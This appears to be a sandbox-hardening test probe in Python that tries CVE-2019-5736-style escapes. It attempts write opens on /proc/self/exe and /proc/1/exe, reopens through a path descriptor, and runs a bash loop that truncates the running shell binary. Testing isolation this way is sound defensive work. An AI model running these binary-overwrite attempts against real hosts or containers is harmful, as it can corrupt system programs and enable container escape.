# tries: overwrites the program that it is running, which every other sandbox runs too
# stopped by: read_only, user_namespace, landlock
# like: CVE-2019-5736

import subprocess
for path in ("/proc/self/exe", os.path.realpath("/proc/self/exe"), "/proc/1/exe", "/proc/thread-self/exe"):
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        attempt(f"opened {path}", lambda: os.open(path, flags))
fd = os.open("/proc/self/exe", os.O_PATH)
attempt("opened again by a path descriptor", lambda: os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
# Once nothing runs it any more it is not busy.
script = f"exec 3</proc/$$/exe; exec sleep 0 3<&3"
subprocess.run(["bash", "-c", "for i in 1 2 3; do : > /proc/self/fd/3 && echo 'GOT wrote the shell'; done 3< /proc/self/exe"], stderr=subprocess.DEVNULL)
